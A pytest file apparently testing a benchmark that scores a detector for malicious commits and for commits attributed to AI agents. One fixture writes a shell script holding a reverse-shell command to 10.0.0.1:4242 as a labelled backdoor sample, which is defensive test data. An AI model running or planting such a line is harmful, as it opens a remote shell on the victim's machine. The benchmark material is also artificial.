"""The whole bench: manifests and mirrors in, tables and an exit status out."""

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parents[2]


@pytest.fixture(name="corpus")
def _corpus(tmp_path: Path, git: Callable[..., str], row: Callable[..., dict[str, Any]]) -> Path:
    """A folder with one mirror and a manifest over it: a reverse shell, and honest work."""
    place = tmp_path / "mirrors" / "acme+app" / "repo"
    place.mkdir(parents=True)
    git(place, "init", "-q", "-b", "main")
    (place / "run.sh").write_text("#!/bin/sh\n/bin/sh -i >& /dev/tcp/10.0.0.1/4242 0>&1\n")
    git(place, "add", "-A")
    git(place, "commit", "-qm", "Start")
    attack = git(place, "rev-parse", "HEAD")
    (place / "a.py").write_text("x = 1\n")
    git(place, "add", "-A")
    git(place, "commit", "-qm", "Set x\n\nCo-authored-by: Claude <noreply@anthropic.com>")
    honest = git(place, "rev-parse", "HEAD")
    rows = [
        row(id="a", rev=attack, tier="malicious", category="supply_chain_backdoor"),
        row(id="b", rev=honest, agent="claude", strength="trailer", languages=["Python"]),
        row(id="c", rev=attack, agent="claude", strength="weak"),
    ]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(one) + "\n" for one in rows))
    return tmp_path


def run(corpus: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, str(ROOT / "scripts/benches/corpus.py"), str(corpus / "mirrors")]
    return subprocess.run(
        [*command, str(corpus / "rows.jsonl"), *arguments],
        capture_output=True,
        text=True,
        check=False,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
    )


def test_it_measures_and_fails_where_a_bar_is_missed(corpus: Path) -> None:
    done = run(corpus, "--json")

    assert done.returncode == 1, done.stderr
    assert done.stdout, done.stderr
    found = json.loads(done.stdout)
    assert "3 of 3 items" in done.stderr
    assert found["recall"]["tier"]["malicious"]["named"] == {"k": 1, "n": 1}
    assert found["benign"]["in all"]["agents"]["medium"] == {"k": 1, "n": 2}
    assert found["attribution"]["agent by trailer"] == {"right": 1, "wrong": 0, "nobody": 0}


def test_it_prints_tables(corpus: Path) -> None:
    text = run(corpus).stdout

    assert "met     flagged: malicious: 1 of 1 100.00 % (bar ≥ 100 %)" in text
    assert "MISSED  agents' commits medium or above: 1 of 2  50.00 % (bar ≤ 15 %)" in text


def test_it_prints_a_sample_that_its_seed_decides(corpus: Path) -> None:
    done = run(corpus, "--sample", "5", "--seed", "1")

    assert done.returncode == 0
    assert done.stdout.startswith("1 of 1 flagged commits, seed 1\n\nc  [claude]  Start\n")
    assert "reverse-shell  run.sh:2" in done.stdout


def test_it_refuses_a_manifest_that_it_cannot_read(corpus: Path) -> None:
    (corpus / "rows.jsonl").write_text("{}\n")
    done = run(corpus)

    assert done.returncode == 2
    assert "rows.jsonl:1: none of category" in done.stderr
